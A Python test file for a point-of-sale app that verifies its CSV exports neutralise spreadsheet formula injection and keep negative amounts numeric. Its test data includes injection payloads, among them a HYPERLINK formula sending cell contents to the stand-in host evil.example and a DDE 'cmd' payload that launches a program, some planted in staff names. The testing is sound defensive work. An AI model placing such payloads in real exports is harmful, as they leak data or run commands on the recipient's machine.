"""Every CSV the product writes neutralises formula-like text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import pos_app
from pos_app.domain.commission import RecordKind
from pos_app.services.commission_reports import (
    DRILL_COLUMNS,
    PAYROLL_COLUMNS,
    ReportFilter,
    ReportScope,
    StaffInfo,
    drill_csv,
    payroll_csv,
)
from pos_app.services.csv_safety import csv_cell, from_csv_cell, safe_writer
from tests.unit.test_commission_reports import NOV, MemorySource, rec, service, t

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0",
            "@SUM(1)", "+1+1", "-2+3", "\tTAB", "\rCR", "'=already quoted"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_gets_a_leading_apostrophe(text: str) -> None:
    assert csv_cell(text) == "'" + text
    assert from_csv_cell(str(csv_cell(text))) == text


@pytest.mark.parametrize("value", ["-12.50", "-3", "12.50", "0", -1250, 7, None, "", "Milk",
                                   "'Til dawn", "a=b", " =not at the start"])
def test_numbers_and_plain_text_are_written_as_they_are(value: object) -> None:
    assert csv_cell(value) == value


@given(st.text())
def test_reading_back_gives_what_was_written(text: str) -> None:
    assert from_csv_cell(str(csv_cell(text))) == text


@given(st.text())
def test_no_written_text_cell_starts_a_formula(text: str) -> None:
    cell = str(csv_cell(text))
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) \
        or re.fullmatch(r"-[0-9]+(\.[0-9]+)?", cell)


def test_safe_writer_writes_rows_through_csv_cell() -> None:
    buf = io.StringIO()
    w = safe_writer(buf, lineterminator="\n")
    w.writerow(["=1+1", -5, "-5.00", "ok"])
    w.writerows([["@x"]])
    assert buf.getvalue() == "'=1+1,-5,-5.00,ok\n'@x\n"


def formula_staff_report():
    staff = (StaffInfo("ann", '=HYPERLINK("http://evil.example","x")', "cashier", "S1"),
             StaffInfo("bob", "@SUM(1)", "cashier", "S1"))
    records = [("S1", rec("ann", t(3), 500, base=10_000, units=2, sale="s1")),
               ("S1", rec("ann", t(9), -100, base=-2_000, kind=RecordKind.CLAWBACK)),
               ("S1", rec("bob", t(12), 250, base=5_000))]
    return service(MemorySource(records, staff=staff))


def test_payroll_csv_neutralises_names_and_keeps_negative_amounts_numeric() -> None:
    reports = formula_staff_report()
    rows = list(csv.DictReader(io.StringIO(payroll_csv(
        reports.report(ReportFilter(ReportScope(), NOV))))))
    assert tuple(rows[0]) == PAYROLL_COLUMNS
    by_id = {r["staff_id"]: r for r in rows}
    assert by_id["ann"]["name"] == '\'=HYPERLINK("http://evil.example","x")'
    assert by_id["bob"]["name"] == "'@SUM(1)"
    assert by_id["ann"]["clawbacks"] == "-1.00"  # a number, not neutralised text
    assert by_id["ann"]["commission_total"] == "4.00"


def test_drill_csv_neutralises_names_and_keeps_negative_amounts_numeric() -> None:
    reports = formula_staff_report()
    drill = reports.drill_down(ReportFilter(ReportScope(), NOV), "ann")
    rows = list(csv.DictReader(io.StringIO(drill_csv(drill))))
    assert tuple(rows[0]) == DRILL_COLUMNS
    assert {r["name"] for r in rows} == {'\'=HYPERLINK("http://evil.example","x")'}
    assert sorted(r["commission"] for r in rows) == ["-1.00", "5.00"]
    assert sorted(r["sales_net"] for r in rows) == ["-20.00", "100.00"]


def test_every_csv_writer_in_the_product_is_the_safe_one() -> None:
    root = Path(pos_app.__file__).parent
    unsafe = re.compile(r"\bcsv\.(writer|DictWriter)\s*\(|^\s*from csv import", re.MULTILINE)
    offenders = [str(p.relative_to(root)) for p in sorted(root.rglob("*.py"))
                 if p.name != "csv_safety.py" and unsafe.search(p.read_text(encoding="utf-8"))]
    assert offenders == []
